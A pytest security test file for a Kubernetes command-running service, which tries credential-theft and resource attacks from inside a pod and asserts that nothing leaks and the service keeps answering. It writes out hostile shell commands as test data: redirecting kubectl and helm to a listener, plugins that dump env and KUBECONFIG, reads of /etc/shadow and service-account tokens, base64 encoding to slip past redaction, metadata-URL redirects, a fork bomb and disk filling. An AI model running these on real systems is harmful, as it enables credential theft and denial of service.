"""Attacks from within a command: on the credential, on the service's files, on the node. docs/security.md has the
table of all attacks.
"""

import asyncio
import base64
import gzip
import socket
import socketserver
import ssl
import threading
import time
from collections.abc import AsyncIterator, Generator, Iterator
from contextlib import contextmanager, suppress
from ipaddress import ip_address, ip_network
from pathlib import Path
from typing import cast

import httpx
import pytest

from tests.e2e.place import Place
from tests.support.certificates import Authority
from tests.support.client import Client
from tests.support.events import Transcript
from tests.support.left_out import leave_out
from tests.support.service import Service, StartService
from tests.testcluster.layout import Addresses

pytestmark = pytest.mark.cluster


class Listener(socketserver.ThreadingTCPServer):
    """A port of this machine, outside the cluster, which writes down all that comes, as a server and as a proxy.

    With `location` it sends everybody there, with `tls` it serves https.
    """

    daemon_threads = True

    def __init__(self, address: str, location: str = "", tls: ssl.SSLContext | None = None) -> None:
        self.heard: list[bytes] = []
        self.callers: set[str] = set()
        self.location = location
        super().__init__((address, 0), _Hear)
        if tls:
            self.socket = tls.wrap_socket(self.socket, server_side=True)

    @property
    def host(self) -> str:
        return "{}:{}".format(*self.server_address)


class _Hear(socketserver.BaseRequestHandler):
    request: socket.socket

    def handle(self) -> None:
        listener = cast("Listener", self.server)
        listener.callers.add(self.client_address[0])
        heard = listener.heard
        self.request.settimeout(2)
        with suppress(OSError):
            first = self.request.recv(65536)
            heard.append(first)
            if first.startswith(b"CONNECT"):
                self.request.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
                heard.append(self.request.recv(65536))
            else:
                how = f"302 Found\r\nLocation: {listener.location}" if listener.location else "403 Forbidden"
                answer = f"HTTP/1.1 {how}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                self.request.sendall(answer.encode())


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening() as listener:
        yield listener


@contextmanager
def listening(location: str = "", tls: ssl.SSLContext | None = None) -> Generator[Listener]:
    try:
        listener = Listener(Addresses.from_environment().host, location, tls)
    except OSError as error:
        leave_out(f"the pods of this cluster cannot reach a listener on this machine: {error}")
    with listener:
        thread = threading.Thread(target=listener.serve_forever, args=(0.05,))
        thread.start()
        yield listener
        listener.shutdown()
        thread.join()


def secrets_of(place: Place, token: str) -> list[bytes]:
    """What must not be found: in every form in which it could be sent or printed."""
    user = place.admin["users"][0]["user"]
    key = base64.b64decode(user["client-key-data"])
    values = [
        token.encode(),
        token.rpartition(".")[2].encode(),
        user["client-key-data"].encode(),
        key.splitlines()[1],
    ]
    return [form for value in values for form in (value, base64.b64encode(value)[4:-4])]


@pytest.fixture(scope="module")
def token(place: Place) -> Iterator[str]:
    """Of an account with rights that are worth stealing."""
    where = f"--namespace={place.target}"
    place.kubectl("create", "serviceaccount", "precious", where)
    place.kubectl(
        "create", "rolebinding", "precious", where, "--clusterrole=edit", f"--serviceaccount={place.target}:precious"
    )
    yield place.token("precious", place.target)
    place.kubectl("delete", "rolebinding/precious", "serviceaccount/precious", where)


@pytest.fixture
async def client(kubernetes_server: Service, place: Place, token: str) -> AsyncIterator[Client]:
    async with Client(kubernetes_server.url, place.kubeconfig("precious", token=token).read_text()) as client:
        yield client


def everything(command: str) -> str:
    """Both streams of the command, in a form in which redaction, the second guard, finds nothing."""
    return f"{{ {command}\n }} 2>&1 | gzip | base64 --wrap=1000"


def unpacked(seen: Transcript) -> bytes:
    assert seen.final["status"] == "done", (seen.final, seen.stderr)
    return gzip.decompress(base64.b64decode("".join(seen.stdout)))


REDIRECTED = {
    "server": """
        kubectl --server=http://{0} get pods
        kubectl --server=https://{0} --insecure-skip-tls-verify </dev/null get pods
    """,
    "token": """
        kubectl --server=http://{0} --token=mine --v=9 get pods
        kubectl --server=https://{0} --insecure-skip-tls-verify --username=a --password=b get pods
    """,
    "proxy variables": """
        export HTTPS_PROXY=http://{0} HTTP_PROXY=http://{0} ALL_PROXY=http://{0} NO_PROXY=
        kubectl get pods
        kubectl --server=http://elsewhere.invalid get pods
        kubectl --server=https://elsewhere.invalid --token=mine get pods
    """,
    "proxy-url": """
        cluster=$(kubectl config view --output=jsonpath='{{.clusters[0].name}}')
        kubectl config set-cluster "$cluster" --proxy-url=http://{0}
        kubectl get pods
    """,
    "another cluster": """
        kubectl config set-cluster x --server=http://{0}
        kubectl config set-context --current --cluster=x
        kubectl get pods
    """,
    "another kubeconfig": """
        kubectl config view --raw --flatten >copy
        sed -i 's#http://127.0.0.1:9001#http://{0}#' copy
        kubectl --kubeconfig=copy get pods
        KUBECONFIG=copy kubectl get pods
        mkdir -p home/.kube; cp copy home/.kube/config; unset KUBECONFIG
        HOME=$PWD/home kubectl get pods
    """,
    "a proxy of its own": """
        coproc kubectl proxy --port=8001 --address=0.0.0.0 --accept-hosts='.*' 2>&1
        read -r <&"${{COPROC[0]}}"
        kubectl --server=http://127.0.0.1:8001 get --raw=/api --v=9
        kubectl --server=http://{0} --v=9 get pods
        kill $COPROC_PID
    """,
    "a plugin": """
        mkdir bin; export PATH=$PWD/bin:$PATH
        printf '#!/bin/bash\\nenv; set; kubectl --server=http://{0} get pods' >bin/kubectl-leak
        chmod +x bin/kubectl-leak; kubectl leak
    """,
    "helm": """
        mkdir -p chart/templates plugins/leak
        printf 'apiVersion: v2\\nname: c\\nversion: 1.0.0\\n' >chart/Chart.yaml
        printf '#!/bin/bash\\nenv >&2; cat $KUBECONFIG >&2; cat' >render; chmod +x render
        helm template x chart --post-renderer=./render --debug
        printf 'name: leak\\nversion: 1.0.0\\ncommand: "env; cat $KUBECONFIG"\\n' >plugins/leak/plugin.yaml
        HELM_PLUGINS=$PWD/plugins helm leak
        helm --kube-apiserver=http://{0} list
        helm --kube-token=mine --kube-apiserver=http://{0} list --debug
    """,
    "the proxy as a proxy": """
        exec 3<>/dev/tcp/127.0.0.1/9001
        printf 'GET http://{0}/ HTTP/1.1\\r\\nHost: {0}\\r\\nConnection: close\\r\\n\\r\\n' >&3; cat <&3
        exec 4<>/dev/tcp/127.0.0.1/9001
        printf 'CONNECT {0} HTTP/1.1\\r\\nHost: {0}\\r\\n\\r\\n' >&4; timeout 1 cat <&4
    """,
}


async def test_redirected_kubectl_sends_no_credential(
    client: Client, place: Place, token: str, listener: Listener
) -> None:
    """To a listener of ours outside the cluster. One in the pod is in test_isolation.py."""
    ways = "".join(
        f"""
        mkdir "$HOME/way {name}"; cd "$HOME/way {name}"; echo "=== {name}"
        ( cp "$KUBECONFIG" own; export KUBECONFIG=$PWD/own; {command.format(listener.host)} ) &
        """
        for name, command in REDIRECTED.items()
    )
    text = unpacked(await client.run(everything(f"kubectl get pods; {ways} wait")))
    assert f"system:serviceaccount:{place.target}:precious".encode() in text, "the credential is there and works"
    for name in REDIRECTED:
        assert f"=== {name}\n".encode() in text
    heard = b"\n".join(listener.heard)
    assert [secret[:12] for secret in secrets_of(place, token) if secret in text + heard] == []
    assert {line.strip() for line in heard.splitlines() if b"uthorization" in line} <= {b"Authorization: Bearer mine"}
    # As a server, as a proxy for both schemes, and by helm.
    for expected in (
        b"GET /api",
        b"GET http://elsewhere.invalid/api",
        b"CONNECT elsewhere.invalid:443",
        b"User-Agent: Helm/",
    ):
        assert expected in heard, expected


async def test_redirect_leads_the_pod_alone_and_without_the_credential(
    kubernetes_server: Service, place: Place, token: str, listener: Listener, tmp_path: Path
) -> None:
    """By an API server of the caller's choice, to where metadata could be. What the pod may then reach at all is its
    network policy's to say: test_network.py, tests/cluster/test_network_policy.py.
    """
    authority = Authority(tmp_path)
    pem = tmp_path / "server.pem"
    pem.write_bytes(b"".join(authority.issue(1, Addresses.from_environment().host)))
    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    tls.load_cert_chain(pem)
    with listening(f"http://{listener.host}/latest/meta-data/", tls) as server:
        trusted = base64.b64encode(authority.file.read_bytes()).decode()
        entry = {"server": f"https://{server.host}", "certificate-authority-data": trusted}
        kubeconfig = place.kubeconfig("redirecting", entry, token).read_text()
        async with Client(kubernetes_server.url, kubeconfig) as client:
            text = unpacked(await client.run(everything("kubectl get --raw=/api --v=9; kubectl get pods")))
    assert f"Authorization: Bearer {token}".encode() in b"\n".join(server.heard), "it is the caller's own server"
    heard = b"\n".join(listener.heard)
    assert b"GET /latest/meta-data/" in heard
    assert b"uthorization" not in heard
    assert [secret[:12] for secret in secrets_of(place, token) if secret in text + heard] == []
    pods = ip_network(Addresses.from_environment().pods)
    assert [caller for caller in server.callers | listener.callers if ip_address(caller) not in pods] == []


FILES = """
    /etc/passwd /etc/shadow /proc/1/environ /proc/self/environ /run/k8s-mcp/credentials/kubeconfig
    /run/k8s-mcp/run/kubeconfig /var/run/secrets/kubernetes.io/serviceaccount/token /dev/termination-log
"""


async def test_files_that_kubectl_reads_are_the_pods_own(client: Client, place: Place, token: str) -> None:
    """`-f /etc/passwd` and friends, links in /tmp, directory traversal: nothing of the service is in the pod."""
    text = unpacked(
        await client.run(
            everything(
                f"""
                cd
                for file in {" ".join(FILES.split())}; do
                    ln -sf $file link
                    cat $file
                    kubectl create --dry-run=client --output=yaml -f $file; kubectl apply -f link
                    kubectl create configmap x --dry-run=client --output=yaml --from-file=$file --from-env-file=$file
                    kubectl --kubeconfig=$file config view --raw
                    kubectl --token="$(cat $file)" --v=9 get pods
                    kubectl diff -k $file; helm template $file; helm template x --values=$file $file
                done
                ln -sf /run/k8s-mcp/credentials/kubeconfig $KUBECONFIG; cat $KUBECONFIG
                find / -xdev -name '*kubeconfig*' -not -path '/proc/*'
                """
            )
        )
    )
    assert b"root:x:0:0" in text, "it did read the pod's own"
    assert [secret[:12] for secret in secrets_of(place, token) if secret in text] == []
    service = (place.directory / "service").read_text()
    assert service.partition("token:")[2].split()[0].encode() not in text
    assert b"K8S_MCP_" not in text


# Bombs. Each is bounded by what the pod may use; the service, and a run beside it, go on.


async def _answer_times(service: Service, done: asyncio.Event) -> list[float]:
    """How long the service takes to answer while the bomb goes off."""
    took: list[float] = []
    async with httpx.AsyncClient(base_url=service.url, trust_env=False, timeout=30) as http:
        while not done.is_set():
            begin = time.monotonic()
            assert (await http.get("/healthz")).status_code == 200
            took.append(time.monotonic() - begin)
            await asyncio.sleep(0.1)
    return took


DISK = """
    cat /dev/zero >/dev/termination-log
    stat -c %s /dev/termination-log
    cat /dev/zero >/tmp/full
    rm /tmp/full
    cd; for i in $(seq 200000); do : >$i; done
"""
BOMBS = {
    "processes": (":(){ :|:& };: ; sleep 60", {"timeout", "error"}),
    "memory": ("python3 -c 'x = [bytes(1 << 26 | n) for n in range(10_000)]'; exit 3", {"done", "error"}),
    "disk": (DISK, {"done", "timeout", "error"}),
}


@pytest.mark.parametrize("bomb", BOMBS)
async def test_bomb_hurts_nobody_else(client: Client, kubernetes_server: Service, place: Place, bomb: str) -> None:
    command, ends = BOMBS[bomb]
    done = asyncio.Event()
    async with asyncio.TaskGroup() as group:
        answers = group.create_task(_answer_times(kubernetes_server, done))
        async with client.stream("echo go; sleep 9; echo still here") as neighbour:
            await neighbour.first("stdout")
            seen = await client.run(command, timeout=5)
            beside = await neighbour.to_end()
        done.set()
    took = sorted(answers.result())
    assert seen.final["status"] in ends, (seen.final, seen.stdout, seen.stderr)
    assert beside.stdout == ["go", "still here"]
    assert beside.final == {"status": "done", "exit_code": 0}
    assert took[len(took) // 2] < 0.5, took
    assert (await client.run("echo after")).stdout == ["after"]
    await place.nothing_left(seen.run_id, seconds=30)


async def test_no_file_of_a_command_grows_beyond_its_tmp(
    serve_kubernetes: StartService, place: Place, token: str
) -> None:
    """The termination log is on the node's disk, and no limit of Kubernetes' counts it."""
    service = serve_kubernetes(runner_tmp_size="4Mi")
    async with Client(service.url, place.kubeconfig("precious", token=token).read_text()) as client:
        seen = await client.run(
            "ulimit -f unlimited || echo refused; head -c 64M /dev/zero >/dev/termination-log; echo $?; "
            "stat -c %s /dev/termination-log"
        )
    assert seen.stdout == ["refused", "153", str(4 << 20)]
    assert seen.final == {"status": "done", "exit_code": 0}
